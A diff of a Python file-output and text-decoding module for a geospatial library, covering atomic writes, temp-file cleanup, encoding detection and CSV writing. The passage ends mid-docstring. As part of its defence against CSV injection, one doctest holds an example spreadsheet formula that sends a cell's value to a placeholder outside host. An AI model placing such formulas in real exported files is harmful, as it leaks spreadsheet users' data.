@@ -3,23 +3,32 @@
 Every file geo_idlib writes goes through :func:`atomic_output`: the data is written to a temporary
 file in the destination directory and renamed over the target only when complete, so a failed run
 never leaves a partial or clobbered file. An existing file is replaced only with ``overwrite=True``.
+Temporary files carry the writer's process id in their name (:func:`temp_path_beside`), so that a
+later run removes those of processes that died (:func:`remove_stale_temps`), e.g. after ``kill -9``.
+
+Every CSV goes through :func:`csv_text`, which neutralises cells a spreadsheet would run as a
+formula (:func:`spreadsheet_safe`) unless asked for raw cells.
 """
 
 from __future__ import annotations
 
+import codecs
 import contextlib
 import dataclasses
 import importlib.resources
 import json
+import logging
 import math
 import os
+import re
+import secrets
 import sys
-import tempfile
 from collections.abc import Iterator
-from io import BytesIO
 from pathlib import Path
 
 from .errors import GeoIdlibError, InputError, InputFileNotFound, OutputError, OutputExists
+
+log = logging.getLogger("geo_idlib")
 
 #: Float digits kept in every JSON/GeoJSON/CSV output (1e-6° ≈ 0.1 m).
 FLOAT_DIGITS = 6
@@ -71,8 +80,7 @@ def cache_dir() -> Path:
         import platformdirs
 
         p = Path(platformdirs.user_cache_dir("geo_idlib", appauthor=False))
-    p.mkdir(parents=True, exist_ok=True)
-    return p
+    return _make_folder(p, "cache folder", "GEO_IDLIB_CACHE")
 
 
 def data_dir() -> Path:
@@ -84,8 +92,143 @@ def data_dir() -> Path:
         import platformdirs
 
         p = Path(platformdirs.user_data_dir("geo_idlib", appauthor=False))
-    p.mkdir(parents=True, exist_ok=True)
+    return _make_folder(p, "data folder", "GEO_IDLIB_HOME")
+
+
+def _make_folder(p: Path, what: str, variable: str) -> Path:
+    try:
+        p.mkdir(parents=True, exist_ok=True)
+    except OSError as exc:
+        raise OutputError(f"{p}: cannot create geo_idlib's {what} ({exc.strerror}); set {variable} to a "
+                          "writable folder") from None
     return p
+
+
+def writable_folder(path: str | os.PathLike, what: str, fix: str) -> Path:
+    """``path``, a folder geo_idlib will write in: created if missing, then tried with a file.
+
+    Raises :class:`OutputError` naming the folder, the reason and ``fix`` when that fails, so a
+    command stops before any work instead of failing at its end.
+    """
+    p = Path(path)
+    try:
+        p.mkdir(parents=True, exist_ok=True)
+        _try_a_file(p / "probe")
+    except OSError as exc:
+        raise OutputError(f"{p}: cannot write the {what} there ({exc.strerror}); {fix}") from None
+    return p
+
+
+# --------------------------------------------------------------------------- temporary files
+#: A temporary file of geo_idlib: ``.<target name>.geo_idlib-<pid>-<8 hex>.tmp<suffix>`` (SQLite and
+#: GDAL may add their own endings, e.g. ``-journal``). The pid says whether its writer still runs.
+_TEMP_NAME = re.compile(r"^\..*\.geo_idlib-(?P<pid>\d+)-[0-9a-f]{8}\.tmp")
+#: What geo_idlib 0.1 named its temporary files, without a pid (``tempfile.mkstemp``): e.g. a killed
+#: `gazetteer add` left ``.user.k2x9_ab1.tmp.sqlite`` (~100 MB). Removed from geo_idlib's own
+#: folders (cache, data) once older than :data:`LEGACY_TEMP_AGE_S`, when no writer can be left.
+_LEGACY_TEMP_NAME = re.compile(r"^\..+\.[a-z0-9_]{8}\.tmp(\.[a-z]+)?$")
+LEGACY_TEMP_AGE_S = 24 * 3600
+#: Characters of the target's name kept in a temporary name (file names are limited to 255 bytes).
+_TEMP_STEM_CHARS = 96
+
+
+def temp_path_beside(path: str | os.PathLike, suffix: str | None = None) -> Path:
+    """A fresh, not yet existing temporary path in the directory of ``path``, named after this process.
+
+    The suffix of ``path`` (or ``suffix``) ends the name, so that writers that sniff it (GDAL) pick
+    the right format.
+
+    >>> t = temp_path_beside("out/map.html")
+    >>> t.parent.as_posix(), t.name.startswith(".map.html.geo_idlib-"), t.suffix, is_temp_name(t.name)
+    ('out', True, '.html', True)
+    """
+    p = Path(path)
+    parent = p.parent if str(p.parent) else Path(".")
+    end = p.suffix if suffix is None else suffix
+    return parent / f".{p.name[:_TEMP_STEM_CHARS]}.geo_idlib-{os.getpid()}-{secrets.token_hex(4)}.tmp{end}"
+
+
+def is_temp_name(name: str) -> bool:
+    """Whether a file name is one of geo_idlib's temporary files (see :func:`temp_path_beside`)."""
+    return _TEMP_NAME.match(name) is not None
+
+
+def process_alive(pid: int) -> bool:
+    """Whether process ``pid`` runs (POSIX; elsewhere every process counts as running)."""
+    if pid == os.getpid():
+        return True
+    if os.name != "posix":  # os.kill would terminate the process on Windows
+        return True
+    try:
+        os.kill(pid, 0)
+    except ProcessLookupError:
+        return False
+    except OSError:  # EPERM: it runs, as another user
+        return True
+    return True
+
+
+def remove_stale_temps(*directories: str | os.PathLike | None, own: tuple = ()) -> list[Path]:
+    """Remove the temporary files of dead geo_idlib processes from ``directories``; return them.
+
+    A run killed while it wrote (``kill -9``, a power cut) leaves its temporary file behind; the pid
+    in the name tells that its writer is gone. Files of running processes, and every file that is
+    not one of geo_idlib's temporary files, are left alone. Folders that do not exist are skipped.
+    In the folders ``own`` (geo_idlib's cache and data dirs), temporary files of geo_idlib 0.1,
+    which carry no pid, go too once a day old.
+    """
+    removed = []
+    legacy = {Path(x) for x in own}
+    for d in dict.fromkeys(Path(x) for x in (*directories, *own) if x):
+        try:
+            entries = list(os.scandir(d))
+        except OSError:
+            continue
+        for e in entries:
+            m = _TEMP_NAME.match(e.name)
+            if m is not None and process_alive(int(m["pid"])):
+                continue
+            if m is None and not (d in legacy and _LEGACY_TEMP_NAME.match(e.name) and _age_s(e) > LEGACY_TEMP_AGE_S):
+                continue
+            with contextlib.suppress(OSError):
+                if e.is_file(follow_symlinks=False) or e.is_symlink():
+                    os.unlink(e.path)
+                    removed.append(Path(e.path))
+    if removed:
+        log.info("removed %d temporary file(s) of runs that did not finish: %s", len(removed),
+                 ", ".join(str(r) for r in removed))
+    return removed
+
+
+def _age_s(entry: os.DirEntry) -> float:
+    import time
+
+    try:
+        return time.time() - entry.stat(follow_symlinks=False).st_mtime
+    except OSError:
+        return 0.0
+
+
+@contextlib.contextmanager
+def exclusive_lock(path: str | os.PathLike, waiting: str) -> Iterator[None]:
+    """Hold an exclusive lock on the file ``path`` for the block; other processes wait for it.
+
+    When another process holds the lock, ``waiting`` is logged once (a warning, on stderr) before
+    this one waits. The lock is the operating system's (``flock``), so it dies with its holder:
+    a killed process never leaves a lock that blocks later runs.
+    """
+    import filelock
+
+    lock = filelock.FileLock(str(path))
+    try:
+        lock.acquire(timeout=0)
+    except filelock.Timeout:
+        log.warning("%s", waiting)
+        lock.acquire()
+    try:
+        yield
+    finally:
+        lock.release()
 
 
 # --------------------------------------------------------------------------- writing
@@ -93,33 +236,49 @@ def check_output(path: str | os.PathLike, overwrite: bool = False) -> Path:
     """Fail early (before any work) if ``path`` cannot be written.
 
     Raises :class:`OutputExists` when it exists and ``overwrite`` is false, and :class:`OutputError`
-    when its directory is missing or not writable.
+    (naming ``path`` and the reason) when its directory is missing or refuses a new file (a file is
+    created there and removed again).
     """
     p = Path(path)
-    if p.exists() and not overwrite:
-        raise OutputExists(f"{p}: already exists; pass --overwrite to replace it or choose another -o path")
     if p.exists() and p.is_dir():
         raise OutputError(f"{p}: is a directory; give a file name for -o")
+    if p.exists() and not overwrite:
+        raise OutputExists(f"{p}: already exists; pass --overwrite to replace it or choose another -o path")
+    if p.exists() and not p.is_file():
+        raise OutputError(f"{p}: is not a regular file (a device or a pipe); give a file name for -o, "
+                          "or leave -o out to write to stdout")
     parent = p.parent if str(p.parent) else Path(".")
     if not parent.exists():
         raise OutputError(f"{p}: directory {parent} does not exist; create it first or choose another -o path")
-    if not os.access(parent, os.W_OK):
-        raise OutputError(f"{p}: directory {parent} is not writable; choose another -o path")
+    if not parent.is_dir():
+        raise OutputError(f"{p}: {parent} is not a directory; choose another -o path")
+    try:
+        _try_a_file(p)
+    except OSError as exc:
+        raise OutputError(f"{p}: cannot write in {parent} ({exc.strerror}); choose another -o path") from None
     return p
 
 
+def _try_a_file(beside: Path) -> None:
+    """Create and remove a temporary file beside ``beside``: the one writability test that holds for
+    every user and file system (root, read-only mounts, immutable folders, /sys...). OSError if not."""
+    probe = temp_path_beside(beside)
+    os.close(os.open(probe, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
+    os.unlink(probe)
+
+
 @contextlib.contextmanager
-def atomic_output(path: str | os.PathLike, overwrite: bool = False) -> Iterator[Path]:
+def atomic_output(path: str | os.PathLike, overwrite: bool = False, suffix: str | None = None) -> Iterator[Path]:
     """Yield a temporary path beside ``path``; rename it onto ``path`` if the block succeeds.
 
-    The temporary file keeps the target's suffix so that format-sniffing writers (GDAL) pick the
-    right driver. On any exception the temporary file is removed and ``path`` is left untouched.
+    The temporary file keeps the target's suffix (or takes ``suffix``) so that format-sniffing
+    writers (GDAL) pick the right driver, and names this process (:func:`temp_path_beside`). On any exception the
+    temporary file is removed and ``path`` is left untouched; a failing write (disk full,
+    permissions) becomes one :class:`OutputError` naming ``path`` and the reason, never the
+    temporary file.
     """
     p = check_output(path, overwrite)
-    fd, tmp = tempfile.mkstemp(prefix=f".{p.stem}.", suffix=f".tmp{p.suffix}", dir=p.parent if str(p.parent) else ".")
-    os.close(fd)
-    os.unlink(tmp)  # writers such as GDAL refuse to write onto an existing file
-    tmp_path = Path(tmp)
+    tmp_path = temp_path_beside(p, suffix)
     try:
         yield tmp_path
         if not tmp_path.exists():
@@ -127,11 +286,25 @@ def atomic_output(path: str | os.PathLike, overwrite: bool = False) -> Iterator[
         if p.exists() and not overwrite:  # created meanwhile by someone else
             raise OutputExists(f"{p}: already exists; pass --overwrite to replace it")
         os.replace(tmp_path, p)
-    except PermissionError as exc:
-        raise OutputError(f"{p}: cannot write ({exc.strerror}); choose another -o path") from None
+    except GeoIdlibError:
+        raise
+    except OSError as exc:
+        if exc.filename not in (None, str(tmp_path), str(p)):
+            raise  # about another file (an input): not this output's error
+        raise OutputError(f"{p}: cannot write ({exc.strerror or exc}); choose another -o path") from None
     finally:
-        with contextlib.suppress(FileNotFoundError):
-            tmp_path.unlink()
+        for leftover in tmp_path.parent.glob(f"{glob_escape(tmp_path.name)}*"):  # + SQLite/GDAL sidecars
+            with contextlib.suppress(OSError):
+                leftover.unlink()
+
+
+def glob_escape(name: str) -> str:
+    """``name`` with the glob metacharacters ``*?[`` escaped.
+
+    >>> glob_escape("a[1]*.txt")
+    'a[[]1][*].txt'
+    """
+    return re.sub(r"([*?\[])", r"[\1]", name)
 
 
 def write_bytes(path: str | os.PathLike, data: bytes, overwrite: bool = False) -> Path:
@@ -164,27 +337,117 @@ def dumps_json(obj, indent: int | None = None) -> str:
                       separators=(",", ":") if indent is None else (",", ": "))
 
 
-def write_vector(gdf, path: str | os.PathLike, overwrite: bool = False, layer: str | None = None) -> Path:
-    """Atomically write a GeoDataFrame; the format follows the suffix (.geojson, .gpkg, .fgb, .parquet, .csv)."""
+#: Output formats by the suffix of -o (``json`` is records for places/geocode, GeoJSON for layers).
+FORMAT_OF_SUFFIX = {".geojson": "geojson", ".json": "json", ".csv": "csv", ".gpkg": "gpkg",
+                    ".parquet": "parquet", ".fgb": "fgb", ".html": "html", ".htm": "html", ".png": "png"}
+#: Formats that are not text: written to a file, never to stdout.
+BINARY_FORMATS = ("gpkg", "parquet", "fgb", "png")
+#: What a layer can be written as (:func:`write_vector`).
+VECTOR_FORMATS = ("geojson", "json", "csv", "gpkg", "parquet", "fgb")
+_GDAL_DRIVERS = {"gpkg": "GPKG", "fgb": "FlatGeobuf"}
+
+
+def output_format(output: str | os.PathLike | None, fmt: str | None, choices, default: str) -> str:
+    """The format of an output: ``fmt`` (--format) when given, else the suffix of ``output`` (-o),
+    else ``default`` (stdout).
+
+    An unknown suffix is refused rather than guessed (``-o x.xml`` would otherwise hold GeoJSON),
+    and a binary format needs a file.
+
+    >>> output_format("p.gpkg", None, ("geojson", "gpkg"), "geojson")
+    'gpkg'
+    >>> output_format("p.txt", "geojson", ("geojson", "gpkg"), "geojson")
+    'geojson'
+    >>> output_format("p.xml", None, ("geojson", "gpkg"), "geojson")
+    Traceback (most recent call last):
+    ...
+    geo_idlib.errors.OutputError: p.xml: unknown output format '.xml'; name the file .geojson or .gpkg, or pass --format
+    """
+    if fmt is not None:
+        if fmt not in choices:
+            raise InputError(f"--format {fmt}: unknown; use {', '.join(choices)}")
+        if not output and fmt in BINARY_FORMATS:
+            raise InputError(f"--format {fmt} writes a binary file, not text for stdout; give -o FILE.{fmt}")
+        return fmt
+    if not output:
+        return default
+    suffix = Path(output).suffix.lower()
+    found = FORMAT_OF_SUFFIX.get(suffix)
+    if found not in choices:
+        names = [s for s, f in FORMAT_OF_SUFFIX.items() if f in choices]
+        raise OutputError(f"{output}: unknown output format {suffix or '(no suffix)'!r}; name the file "
+                          f"{', '.join(names[:-1])}{' or ' if len(names) > 1 else ''}{names[-1]}, or pass --format")
+    return found
+
+
+def write_vector(gdf, path: str | os.PathLike, overwrite: bool = False, layer: str | None = None, *,
+                 fmt: str | None = None, raw_csv: bool = False) -> Path:
+    """Atomically write a GeoDataFrame as ``fmt`` (default: from the suffix, see :data:`VECTOR_FORMATS`).
+
+    ``geojson``/``json``: deterministic GeoJSON (:func:`geojson_text`); ``csv``: :func:`csv_text`
+    (geometry as WKT; ``raw_csv`` keeps formula-like cells as they are); ``gpkg``, ``fgb``: through
+    GDAL; ``parquet``: GeoParquet (geopandas + pyarrow).
+    """
     p = Path(path)
-    suffix = p.suffix.lower()
+    fmt = fmt or output_format(p, None, VECTOR_FORMATS, "geojson")
+    if fmt not in VECTOR_FORMATS:
+        raise OutputError(f"{p}: cannot write a layer as {fmt}; use one of {', '.join(VECTOR_FORMATS)}")
     if gdf.crs is None:
         raise OutputError(f"{p}: refusing to write a layer without a CRS")
-    with atomic_output(p, overwrite) as tmp:
-        if suffix in (".geojson", ".json"):
-            tmp.write_text(geojson_text(gdf), encoding="utf-8")
-        elif suffix == ".csv":
-            df = gdf.copy()
-            df["geometry"] = gdf.geometry.to_wkt(rounding_precision=FLOAT_DIGITS)
-            df.to_csv(tmp, index=False, float_format=f"%.{FLOAT_DIGITS}f")
-        elif suffix == ".parquet":
-            gdf.to_parquet(tmp)
-        elif suffix in (".gpkg", ".fgb", ".shp"):
-            driver = {".gpkg": "GPKG", ".fgb": "FlatGeobuf", ".shp": "ESRI Shapefile"}[suffix]
-            gdf.to_file(tmp, driver=driver, layer=layer or p.stem, engine="pyogrio")
-        else:
-            raise OutputError(f"{p}: unknown output format {suffix!r}; use .geojson, .gpkg, .fgb, .parquet or .csv")
+    with atomic_output(p, overwrite, suffix=f".{fmt}") as tmp:
+        try:
+            if fmt in ("geojson", "json"):
+                tmp.write_text(geojson_text(gdf), encoding="utf-8")
+            elif fmt == "csv":
+                tmp.write_text(csv_text(gdf, raw=raw_csv), encoding="utf-8")
+            elif fmt == "parquet":
+                geoparquet_into(gdf, tmp)
+            else:
+                _write_gdal(gdf, tmp, _GDAL_DRIVERS[fmt], layer or p.stem)
+        except (GeoIdlibError, OSError):
+            raise
+        except Exception as exc:  # pyogrio/pyarrow errors: say which output, in one line
+            first = str(exc).strip().splitlines()[0] if str(exc).strip() else type(exc).__name__
+            raise OutputError(f"{p}: cannot write as {fmt} ({first})") from None
     return p
+
+
+def geoparquet_into(gdf, path: Path, *, row_group_size: int | None = None) -> None:
+    """Write a GeoDataFrame to ``path`` as GeoParquet, the one way geo_idlib does (a file of
+    :func:`write_vector`, a partition of :func:`write_partition`): WKB, no index, the CRS written
+    from its EPSG code by this process's PROJ whatever it was read from, and columns with no value
+    at all as text, so that every partition of a dataset has the same schema."""
+    import pandas as pd
+
+    out = gdf.copy()
+    epsg = out.crs.to_epsg() if out.crs is not None else None
+    if epsg is not None:
+        out = out.set_crs(f"EPSG:{epsg}", allow_override=True)
+    for col in out.columns:
+        if col != out.geometry.name and out[col].dtype == object and out[col].isna().all():
+            out[col] = pd.Series(pd.NA, index=out.index, dtype="string")
+    out.to_parquet(path, index=False, row_group_size=row_group_size)
+
+
+#: The time GeoPackages are stamped with (GDAL stamps the current time otherwise, so that the same
+#: data gave different bytes); an OGR_CURRENT_DATE set by the caller wins.
+GPKG_DATE = "2000-01-01T00:00:00.000Z"
+
+
+def _write_gdal(gdf, tmp: Path, driver: str, layer: str) -> None:
+    """GDAL's write, made deterministic (same data, same bytes) and in row order (FlatGeobuf's
+    spatial index would sort the rows)."""
+    import pyogrio
+
+    options = {"SPATIAL_INDEX": "NO"} if driver == "FlatGeobuf" else {}
+    if pyogrio.get_gdal_config_option("OGR_CURRENT_DATE"):  # the caller's (config or environment)
+        gdf.to_file(tmp, driver=driver, layer=layer, engine="pyogrio", **options)
+        return
+    pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": GPKG_DATE})
+    try:
+        gdf.to_file(tmp, driver=driver, layer=layer, engine="pyogrio", **options)
+    finally:
+        pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": None})
 
 
 def geojson_text(gdf) -> str:
@@ -204,20 +467,54 @@ def _require_file(path: str | os.PathLike, what: str) -> Path:
         raise InputFileNotFound(f"{p}: no such {what}; check the path")
     if p.is_dir():
         raise InputError(f"{p}: is a directory, expected a {what}")
+    if not os.access(p, os.R_OK):
+        raise InputError(f"{p}: cannot read the {what} (permission denied); check its permissions")
     return p
 
 
-def decode_text(data: bytes, name: str) -> str:
-    """Decode report bytes as UTF-8 (a BOM is dropped); refuse binary data and other encodings."""
-    if b"\x00" in data[:65536]:
-        raise InputError(f"{name}: looks like a binary file, not text; give a plain-text report")
+#: Byte-order marks → (Python codec, which drops the mark; name). UTF-32 LE comes before UTF-16 LE,
+#: whose mark begins its own.
+_BOMS = ((codecs.BOM_UTF32_LE, "utf-32", "UTF-32"), (codecs.BOM_UTF32_BE, "utf-32", "UTF-32"),
+         (codecs.BOM_UTF8, "utf-8-sig", "UTF-8"), (codecs.BOM_UTF16_LE, "utf-16", "UTF-16"),
+         (codecs.BOM_UTF16_BE, "utf-16", "UTF-16"))
+
+
+def text_encoding(head: bytes) -> tuple[str, str]:
+    """``(codec, name)`` of text that begins with ``head``: from its byte-order mark, else UTF-8.
+
+    >>> text_encoding("Idlib".encode("utf-16")), text_encoding(b"Idlib")
+    (('utf-16', 'UTF-16'), ('utf-8', 'UTF-8'))
+    """
+    for bom, codec, name in _BOMS:
+        if head.startswith(bom):
+            return codec, name
+    return "utf-8", "UTF-8"
+
+
+def _not_text(name: str, data: bytes, what: str) -> InputError:
+    """The error for bytes with NULs: UTF-16 without a byte-order mark is named as such, else binary."""
+    sample = data[:4096]
+    even, odd = sample[0::2], sample[1::2]
+    for zeros, other, order in ((odd, even, "LE"), (even, odd, "BE")):
+        if len(sample) >= 4 and zeros.count(0) >= 0.9 * len(zeros) and other.count(0) <= 0.1 * len(other):
+            return InputError(f"{name}: UTF-16 text without a byte-order mark; re-save the {what} as UTF-8 "
+                              f"(e.g. iconv -f UTF-16{order} -t UTF-8)")
+    return InputError(f"{name}: looks like a binary file, not text; give a plain-text {what}")
+
+
+def decode_text(data: bytes, name: str, what: str = "report") -> str:
+    """Decode report bytes: UTF-8, or UTF-8/16/32 with a byte-order mark (dropped); refuse binary data,
+    other encodings and empty text with a one-line :class:`InputError`."""
+    codec, enc = text_encoding(data[:4])
+    if enc == "UTF-8" and b"\x00" in data[:65536]:
+        raise _not_text(name, data, what)
     try:
-        text = data.decode("utf-8-sig")
+        text = data.decode(codec)
     except UnicodeDecodeError as exc:
-        raise InputError(f"{name}: not UTF-8 text (byte 0x{data[exc.start]:02x} at offset {exc.start}); "
+        raise InputError(f"{name}: not {enc} text (byte 0x{exc.object[exc.start]:02x} at offset {exc.start}); "
                          "re-save the file as UTF-8") from None
     if not text.strip():
-        raise InputError(f"{name}: the report is empty; give a file with text in it")
+        raise InputError(f"{name}: the {what} is empty; give a file with text in it")
     return text
 
 
@@ -233,92 +530,211 @@ def iter_report_blocks(path: str, block_chars: int = 1 << 20) -> Iterator[tuple[
     """Yield ``(offset, text)`` blocks of a large report, split at paragraph breaks.
 
     Offsets are character offsets into the whole decoded report, so spans found in a block add
-    ``offset``. Memory stays bounded by about ``block_chars`` whatever the file size.
+    ``offset``. Memory stays bounded by about ``block_chars`` whatever the file size. The encoding
+    is UTF-8, or UTF-8/16/32 with a byte-order mark (:func:`text_encoding`).
     """
-    import codecs
-
     stream = sys.stdin.buffer if path == "-" else _require_file(path, "report file").open("rb")
     name = "<stdin>" if path == "-" else str(path)
-    decoder = codecs.getincrementaldecoder("utf-8-sig")()
-    offset, buf, seen_text, nbytes = 0, "", False, 0
     try:
-        while True:
-            raw = stream.read(block_chars)
-            if raw and b"\x00" in raw:
-                raise InputError(f"{name}: looks like a binary file, not text; give a plain-text report")
-            try:
-                buf += decoder.decode(raw, final=not raw)
-            except UnicodeDecodeError as exc:
-                raise InputError(f"{name}: not UTF-8 text (byte 0x{raw[exc.start]:02x} near offset "
-                                 f"{nbytes + exc.start}); re-save the file as UTF-8") from None
-            nbytes += len(raw)
-            if not raw:
-                break
-            cut = buf.rfind("\n\n")
-            if cut == -1:
-                cut = buf.rfind("\n")
-            if cut > 0 and len(buf) >= block_chars // 2:
-                block, buf = buf[: cut + 1], buf[cut + 1:]
-                seen_text = seen_text or bool(block.strip())
-                yield offset, block
-                offset += len(block)
-        if buf:
-            seen_text = seen_text or bool(buf.strip())
-            yield offset, buf
-        if not seen_text:
-            raise InputError(f"{name}: the report is empty; give a file with text in it")
+        yield from _report_blocks(stream, name, block_chars)
     finally:
         if path != "-":
             stream.close()
 
 
+def _report_blocks(stream, name: str, block_chars: int) -> Iterator[tuple[int, str]]:
+    raw = stream.read(block_chars)
+    codec, enc = text_encoding(raw[:4])
+    decoder = codecs.getincrementaldecoder(codec)()
+    offset, buf, seen_text, nbytes = 0, "", False, 0
+    while True:
+        if raw and enc == "UTF-8" and b"\x00" in raw:
+            raise _not_text(name, raw, "report")
+        try:
+            buf += decoder.decode(raw, final=not raw)
+        except UnicodeDecodeError as exc:
+            raise InputError(f"{name}: not {enc} text (byte 0x{exc.object[exc.start]:02x} near offset "
+                             f"{nbytes + exc.start}); re-save the file as UTF-8") from None
+        nbytes += len(raw)
+        if not raw:
+            break
+        cut = buf.rfind("\n\n")
+        if cut == -1:
+            cut = buf.rfind("\n")
+        if cut > 0 and len(buf) >= block_chars // 2:
+            block, buf = buf[: cut + 1], buf[cut + 1:]
+            seen_text = seen_text or bool(block.strip())
+            yield offset, block
+            offset += len(block)
+        raw = stream.read(block_chars)
+    if buf:
+        seen_text = seen_text or bool(buf.strip())
+        yield offset, buf
+    if not seen_text:
+        raise InputError(f"{name}: the report is empty; give a file with text in it")
+
+
+#: Vector formats that are text: read through :func:`decode_text` first (UTF-8, or UTF-16/32 with a
+#: byte-order mark; NUL bytes, undecodable bytes and empty files get a one-line error naming them).
+_TEXT_LAYER_SUFFIXES = (".geojson", ".json", ".geojsonl", ".geojsons", ".kml", ".gml")
+
+
+def _gdal_source(p: Path, what: str):
+    """What GDAL reads for ``p``: the path, or, for text in UTF-16/32, the text re-encoded as UTF-8
+    (GDAL's text formats are UTF-8)."""
+    import io as stdio
+
+    if p.suffix.lower() not in _TEXT_LAYER_SUFFIXES:
+        return p
+    data = p.read_bytes()
+    text = decode_text(data, str(p), what)
+    if text_encoding(data[:4])[0] == "utf-8":
+        return p
+    return stdio.BytesIO(text.encode("utf-8"))
+
+
 def read_vector(path: str | os.PathLike, what: str = "layer", **kwargs):
-    """Read any file GDAL reads into a GeoDataFrame (CSV with WKT/lat-lon is handled by callers)."""
+    """Read any file GDAL reads, or GeoParquet, into a GeoDataFrame (CSV with WKT/lat-lon is handled
+    by callers). UTF-16/32 text (GeoJSON, KML...) with a byte-order mark is read too."""
     import geopandas as gpd
 
     p = _require_file(path, what)
     try:
-        return gpd.read_file(p, engine="pyogrio", **kwargs)
+        if p.suffix.lower() == ".parquet":
+            return gpd.read_parquet(p)
+        return gpd.read_file(_gdal_source(p, what), engine="pyogrio", **kwargs)
     except GeoIdlibError:
         raise
-    except Exception as exc:  # pyogrio raises DataSourceError and friends
-        first = str(exc).strip().splitlines()[0] if str(exc).strip() else type(exc).__name__
-        raise InputError(f"{p}: cannot read as a {what} ({first}); give a GeoJSON, GeoPackage, Shapefile, "
-                         "FlatGeobuf, GeoParquet or KML file") from None
+    except Exception as exc:  # pyogrio raises DataSourceError and friends, pyarrow ArrowInvalid
+        raise _unreadable_layer(p, what, exc) from None
+
+
+def _unreadable_layer(p: Path, what: str, exc: BaseException) -> InputError:
+    article = "an" if what[:1] in "aeiou" else "a"
+    return InputError(f"{p}: cannot read as {article} {what} ({_first_line(exc)}); give a GeoJSON, GeoPackage, "
+                      "Shapefile, FlatGeobuf, GeoParquet or KML file")
+
+
+def _first_line(exc: BaseException) -> str:
+    text = str(exc).strip()
+    return text.splitlines()[0] if text else type(exc).__name__
 
 
 def read_table(path: str | os.PathLike, what: str = "table"):
-    """Read a CSV as a DataFrame (all columns as text) or a vector file as a GeoDataFrame."""
+    """Read a CSV (UTF-8, or UTF-8/16/32 with a byte-order mark) as a DataFrame with every column
+    as text, or a vector file as a GeoDataFrame."""
     import pandas as pd
 
     p = _require_file(path, what)
-    if p.suffix.lower() in (".csv", ".tsv", ".txt"):
-        try:
-            return pd.read_csv(p, sep="\t" if p.suffix.lower() in (".tsv", ".txt") else ",", dtype=str,
-                               keep_default_na=False, encoding="utf-8-sig")
-        except UnicodeDecodeError:
-            raise InputError(f"{p}: not UTF-8 text; re-save the {what} as UTF-8") from None
-        except (pd.errors.ParserError, pd.errors.EmptyDataError) as exc:
-            raise InputError(f"{p}: cannot read as CSV ({str(exc).splitlines()[0]}); check the {what}") from None
-    if p.suffix.lower() == ".parquet":
-        import geopandas as gpd
-
-        return gpd.read_parquet(p)
-    return read_vector(p, what)
+    if p.suffix.lower() not in (".csv", ".tsv", ".txt"):
+        return read_vector(p, what)
+    with p.open("rb") as f:
+        head = f.read(65536)
+    codec, enc = text_encoding(head[:4])
+    if enc == "UTF-8" and b"\x00" in head:
+        raise _not_text(str(p), head, what)
+    try:
+        return pd.read_csv(p, sep="\t" if p.suffix.lower() in (".tsv", ".txt") else ",", dtype=str,
+                           keep_default_na=False, encoding=codec)
+    except UnicodeError:
+        raise InputError(f"{p}: not {enc} text; re-save the {what} as UTF-8") from None
+    except (pd.errors.ParserError, pd.errors.EmptyDataError) as exc:
+        raise InputError(f"{p}: cannot read as CSV ({_first_line(exc)}); check the {what}") from None
 
 
 # --------------------------------------------------------------------------- control / join / change
-def csv_text(df) -> str:
-    """A (Geo)DataFrame as deterministic CSV text (geometry as WKT, floats with FLOAT_DIGITS)."""
+#: First characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection",
+#: ASVS 1.2.10): such a cell gets a leading ``'``, which spreadsheets show as text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def spreadsheet_safe(cell: str) -> str:
+    """``cell`` as a spreadsheet shows it as text: a leading ``'`` when it would start a formula.
+
+    A cell is neutralised when its first character, after any spaces, is one of
+    :data:`FORMULA_STARTS` (``= + - @``, tab, CR, NUL), as OWASP recommends; plain numbers such as
+    ``-36.5`` or ``+1e-05`` are left as they are (a spreadsheet reads them as numbers, not formulas).
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://x.example/?"&A1,"Sarmin")'))
+    '=HYPERLINK("http://x.example/?"&A1,"Sarmin")
+    >>> spreadsheet_safe("@SUM(A1)"), spreadsheet_safe(" -2+3"), spreadsheet_safe("-36.5"), spreadsheet_safe("Sarmin")
+    ("'@SUM(A1)", "' -2+3", '-36.5', 'Sarmin')
+    """
+    s = cell.lstrip(" ")
+    if s[:1] and s[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(s):
+        return "'" + cell
+    return cell
+
+
+def _csv_cell(v) -> str:
+    """One value as CSV text: floats with FLOAT_DIGITS, missing values empty."""
     import pandas as pd
 
-    df = pd.DataFrame(df).copy()
-    for col in df.columns:
-        if hasattr(df[col], "geom_type") or str(df[col].dtype) == "geometry":
-            import geopandas as gpd
+    if v is None or v is pd.NaT or v is pd.NA:
+        return ""
+    if isinstance(v, float):
+        return "" if math.isnan(v) else f"{v:.{FLOAT_DIGITS}f}"
+    if isinstance(v, pd.Timestamp):
+        return v.strftime("%Y-%m-%d") if v == v.normalize() else v.isoformat()
+    return str(v)
 
-            df[col] = gpd.GeoSeries(df[col]).to_wkt(rounding_precision=FLOAT_DIGITS)
-    return df.to_csv(index=False, float_format=f"%.{FLOAT_DIGITS}f", lineterminator="\n")
+
+def _csv_column(s) -> list[str]:
+    """A column as CSV text, vectorised by dtype (geometry as WKT, floats with FLOAT_DIGITS)."""
+    import pandas as pd
+
+    if str(s.dtype) == "geometry":
+        import geopandas as gpd
+
+        return gpd.GeoSeries(s).to_wkt(rounding_precision=FLOAT_DIGITS).fillna("").tolist()
+    if pd.api.types.is_float_dtype(s.dtype):
+        return ["" if v != v else f"{v:.{FLOAT_DIGITS}f}" for v in s.tolist()]
+    if pd.api.types.is_datetime64_any_dtype(s.dtype):
+        day = (s.dropna() == s.dropna().dt.normalize()).all()
+        return s.dt.strftime("%Y-%m-%d" if day else "%Y-%m-%dT%H:%M:%S").fillna("").tolist()
+    return [_csv_cell(v) for v in s.tolist()]
+
+
+def csv_text(table, *, raw: bool = False, header: bool = True) -> str:
+    """A (Geo)DataFrame as deterministic CSV text: THE writer of every CSV geo_idlib outputs.
+
+    Geometry becomes WKT, floats keep :data:`FLOAT_DIGITS` decimals, missing values are empty,
+    lines end with ``\\n`` and a field is quoted when it holds a comma, a quote, CR or LF (RFC 4180;
+    Python's csv module leaves a lone CR unquoted, which splits the row when read back). Unless
